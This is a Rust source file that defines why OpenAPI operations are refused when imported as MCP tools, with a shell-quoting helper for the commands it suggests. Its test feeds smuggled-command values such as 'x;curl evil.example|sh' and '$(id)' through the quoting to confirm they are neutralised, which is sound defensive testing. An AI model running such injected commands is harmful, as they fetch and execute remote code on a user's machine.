//! The reasons for leaving an operation out, each with what can be done.

/// The reason why an operation is not imported.
#[derive(Debug, Clone, PartialEq, Eq, thiserror::Error)]
pub enum LeftOut {
    /// A reference does not lead to a place in the description.
    #[error("it refers to {0:?}, which is not a place within its description")]
    Reference(String),
    /// References lead to each other.
    #[error("its references lead in a circle")]
    Circle,
    /// A path item and one that it refers to have the same member.
    #[error(
        "its path item and one that it refers to both have {0:?}, and OpenAPI leaves open which \
         counts: keep one of them"
    )]
    Contested(String),
    /// A part of it does not have the shape that OpenAPI or MCP gives it.
    #[error("its {0} is malformed")]
    Malformed(&'static str),
    /// It has a method that tools do not have.
    #[error("a tool has no method {0}")]
    Method(String),
    /// The path cannot be a template.
    #[error("its path cannot be a template: {0}")]
    Path(String),
    /// It has more parameters than a call could need.
    #[error("it has more than 256 parameters")]
    Parameters,
    /// A parameter of the path is not declared.
    #[error("its path has {{{0}}}, which no parameter declares")]
    Undeclared(String),
    /// A parameter of the path is not to be sent.
    #[error(
        "its path needs {{{0}}}, so --drop {typed} leaves nothing to ask for: add --bind \
         {typed}=actor.sub (or actor.tenant, actor.iss), or --allow {typed}, in its place",
        typed = typed(.0)
    )]
    DroppedFromPath(String),
    /// Two arguments have one name.
    #[error("two of its parameters would be the argument {0:?}")]
    Clash(String),
    /// A parameter names an identity or a credential.
    #[error(
        "its parameter {0:?} names an identity or a credential, which a model must not choose: add \
         --bind {typed}=actor.sub (or actor.tenant, actor.iss) to let the host fill it in, --drop \
         {typed} to send none, or --allow {typed} if it is something else",
        typed = typed(.0)
    )]
    Identity(String),
    /// A parameter of the path, without which there is no request, names an identity or a
    /// credential.
    #[error(
        "its path has {{{0}}}, which names an identity or a credential, and a model must not \
         choose one: add --bind {typed}=actor.sub (or actor.tenant, actor.iss) to let the host \
         fill it in, or --allow {typed} if it is something else",
        typed = typed(.0)
    )]
    IdentityInPath(String),
    /// A bound parameter is in a place that the host does not fill in.
    #[error("its parameter {0:?} is bound, but the host fills in only paths and queries")]
    BoundElsewhere(String),
    /// A member of an argument, or an argument of a remote tool, names an identity or a credential.
    #[error(
        "its arguments have the member {0:?}, which names an identity or a credential, and a model \
         must not choose one: add --drop {typed} to describe them without it, or --allow {typed} if \
         it is something else",
        typed = typed(.0)
    )]
    IdentityMember(String),
    /// There is more in a schema than can be looked at.
    #[error("its schema is too large to look for members that name an identity or a credential")]
    Unsearchable,
    /// It needs a header that tools may not set.
    #[error(
        "it needs the header {0:?}, which a tool may not set: add --drop {typed} if the service gets \
         it otherwise, or can do without it",
        typed = typed(.0)
    )]
    Header(String),
    /// It needs a cookie.
    #[error("it needs the cookie {0:?}, which a tool may not set")]
    Cookie(String),
    /// A parameter is written in a way that a request cannot have.
    #[error("it needs the parameter {name:?}, {why}")]
    Parameter {
        /// The name in the document.
        name: String,
        /// What about it is not supported.
        why: &'static str,
    },
    /// It needs a body that is neither JSON nor a form.
    #[error("it needs a body of {0}; a tool sends JSON and forms")]
    Body(String),
    /// It needs a body, but its method has none.
    #[error("it needs a body, which {0} has not")]
    BodyOfMethod(&'static str),
    /// A remote tool wants arguments in headers that cannot be.
    #[error("its arguments go into headers (x-mcp-header) in a way that MCP does not know")]
    Mirrored,
    /// The host would not accept the definition.
    #[error("its definition would not be accepted: {0}")]
    Definition(String),
    /// The host would not accept the line of the grant.
    #[error("{line}: {why}")]
    Template {
        /// The line.
        line: String,
        /// The fault.
        why: String,
    },
}

/// Returns a name as a shell takes it for one word, since people copy what they are told to add.
fn typed(name: &str) -> String {
    let plain = |byte: u8| byte.is_ascii_alphanumeric() || b"_.-".contains(&byte);
    if name.bytes().all(plain) && !name.is_empty() {
        name.to_owned()
    } else {
        format!("'{}'", name.replace('\'', r"'\''"))
    }
}

#[cfg(test)]
mod tests {
    use super::LeftOut;

    #[test]
    fn what_people_copy_is_one_word_of_a_shell() {
        for (name, word) in [
            ("X-Api.Version_2", "--drop X-Api.Version_2 "),
            ("x;curl evil.example|sh", "--drop 'x;curl evil.example|sh' "),
            ("$(id)", "--drop '$(id)' "),
            ("a'b", r"--drop 'a'\''b' "),
            ("", "--drop '' "),
        ] {
            let told = LeftOut::Header(name.to_owned()).to_string();
            assert!(told.contains(word), "{name}: {told}");
        }
    }
}
